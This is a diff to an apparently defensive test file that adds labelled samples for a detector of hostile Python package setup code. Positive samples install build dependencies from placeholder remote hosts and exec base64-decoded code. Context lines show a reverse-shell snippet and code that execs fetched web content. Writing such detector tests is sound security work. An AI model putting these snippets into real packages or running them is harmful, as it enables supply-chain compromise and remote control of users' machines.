@@ -45,6 +45,31 @@ DOES: list[tuple[str, str]] = [
         "installs-another-package",
         "import os\nos.system('pip install --index-url http://192.0.2.1 x')",
     ),
+    *(
+        ("installs-another-package", source)
+        for source in (
+            "import setuptools\nsetuptools.setup(setup_requires=['x @ https://a.example/x.zip'])",
+            "from setuptools import setup\nNEEDS = ['numpy', 'git+ssh://a.example/x']\n"
+            "setup(setup_requires=NEEDS)",
+            "from setuptools import setup\nkw = {'setup_requires': 'x@file:///tmp/x'}\nsetup(**kw)",
+            "from setuptools import setup\nkw = {}\nkw['setup_requires'] = ['x @ ' + 'https://a/x']\n"
+            "setup(**kw)",
+            "from setuptools import setup\nkw = dict(setup_requires=['x @ https://a/x'])\nsetup(**kw)",
+            "from setuptools import setup\nsetup(setup_requires=['own'], "
+            "dependency_links=['https://a.example/simple'])",
+            "from setuptools.dist import Distribution\n"
+            "Distribution().fetch_build_eggs(['x @ https://a.example/x.zip'])",
+            "def get_requires_for_build_wheel(settings=None):\n"
+            "    return ['x @ https://a.example/x.zip']\n",
+            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+            "class Hook(BuildHookInterface):\n    def dependencies(self):\n"
+            "        return ['x @ https://a.example/x.zip']\n",
+        )
+    ),
+    (
+        "runs-decoded-code",
+        f'import os\nos.system("""python3 -c \'import base64;exec(base64.b64decode(\\"{HARMLESS}\\"))\'""")',
+    ),
     (
         "opens-a-reverse-shell",
         "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)",
@@ -240,6 +265,12 @@ HONEST = [
     "import os, requests\ndef read(path):\n    if path.startswith('https:'):\n"
     "        return requests.get(path)\n    else:\n        path = os.path.join(os.getcwd(), path)\n"
     "        return open(path)\nread('https://a.example')",
+    "from setuptools import setup\nsetup(setup_requires=['numpy>=1'], url='https://a.example',"
+    " install_requires=['x'], dependency_links=[])",
+    "from setuptools import setup\nsetup(dependency_links=['https://a.example/x'])",
+    "class Page:\n    def dependencies(self):\n        return ['https://a.example']\nPage().dependencies()",
+    "def get_requires_for_build_wheel(settings=None):\n    return ['setuptools', 'x@1']\n",
+    "import os\nos.system('python -c \"import sys; print(sys.path)\"')",
     "import os\nos.write(1, chr(4).encode())\nos.system(os.name)",
     "import urllib.request\nclass Index:\n    def find(self, found):\n"
     "        exec(urllib.request.urlopen(found).read())\ndef parse(page):\n    return page.find('a')\n"
